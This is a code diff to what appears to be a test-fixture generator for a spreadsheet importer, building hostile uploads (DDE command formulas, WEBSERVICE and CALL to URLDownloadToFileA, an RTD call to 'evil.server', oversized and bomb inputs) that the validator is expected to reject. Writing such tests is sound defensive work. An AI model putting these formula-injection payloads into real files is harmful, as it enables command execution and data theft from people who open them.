@@ -61,21 +61,25 @@ def _with_cell(cell: str) -> bytes:
 
 
 def _formulas() -> Iterator[Hostile]:
-    make = declare("spreadsheet-formulas", Code.SPREADSHEET_FORMULA, "lots.xlsx", Door.SPREADSHEET)
+    make = declare("spreadsheet-formulas", Code.SPREADSHEET_FORMULA_ACTIVE, "lots.xlsx", Door.SPREADSHEET)
     formulas = {
         "command": "cmd|'/c calc'!A0",
-        "hyperlink": 'HYPERLINK("http://127.0.0.1:1/"&amp;A1)',
+        "command-in-a-sum": "SUM(1)+cmd|&#39;/c calc&#39;!A0",
         "web-service": 'WEBSERVICE("http://127.0.0.1:1/")',
-        "outside-workbook": "'file:///[evil.xlsx]Sheet1'!A1",
+        "web-service-with-the-cell": 'WebService ("http://127.0.0.1:1/"&amp;A1)',
+        "call": 'CALL("urlmon","URLDownloadToFileA")',
+        "real-time-data": 'RTD("evil.server",,"topic")',
         "long": "1+" * 500_000 + "1",
     }
     for title, formula in formulas.items():
         cell = f'<c r="C2" t="str"><f>{formula}</f><v>0042</v></c>'
         yield make(title, lambda cell=cell: _with_cell(cell))
-    yield make("shared-formula", lambda: _with_cell(
-        '<c r="C2" t="str"><f t="shared" ref="C2:XFD1048576" si="0">A1</f><v>0042</v></c>'))  # fmt: skip
-    yield make("array-formula", lambda: _with_cell(
-        '<c r="C2" t="str"><f t="array" ref="C2:C1048576">A1</f><v>0042</v></c>'))  # fmt: skip
+    yield make("shared", lambda: _with_cell(
+        '<c r="C2" t="str"><f t="shared" ref="C2:XFD1048576" si="0">WEBSERVICE(A1)</f><v>0042</v></c>'))  # fmt: skip
+    yield make("array", lambda: _with_cell(
+        '<c r="C2" t="str"><f t="array" ref="C2:C1048576">cmd|A1!A1</f><v>0042</v></c>'))  # fmt: skip
+    yield make("with-a-prefix", lambda: _with_cell(
+        f'<x:c xmlns:x="{_MAIN}" r="C2" t="str"><x:f>cmd|A1!A1</x:f><x:v>0042</x:v></x:c>'))  # fmt: skip
 
 
 def _workbook_bombs() -> Iterator[Hostile]:
@@ -142,6 +146,7 @@ def _texts() -> Iterator[Hostile]:
     yield make("an-old-workbook", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(5000), code=Code.SPREADSHEET_TYPE)
     yield make("a-quantity-of-a-million-digits", lambda: header + honest.replace(b",10", b"," + b"9" * 1_000_000))
     yield make("no-list", lambda: b"<html>" + header, code=Code.SPREADSHEET_COLUMN_MISSING)
-    for title, cell in {"command": _DDE, "plus": "+1+1", "at": "@SUM(A1)", "tab": "\t=1+1"}.items():
+    cells = {"command": _DDE, "plus": "+" + _DDE[1:], "at": "@WEBSERVICE(A1)", "tab": "\t" + _DDE}
+    for title, cell in cells.items():
         text = honest.replace(b"0042", f'"{cell}"'.encode())
-        yield make(f"formula-{title}", lambda text=text: header + text, code=Code.SPREADSHEET_FORMULA)
+        yield make(f"formula-{title}", lambda text=text: header + text, code=Code.SPREADSHEET_FORMULA_ACTIVE)
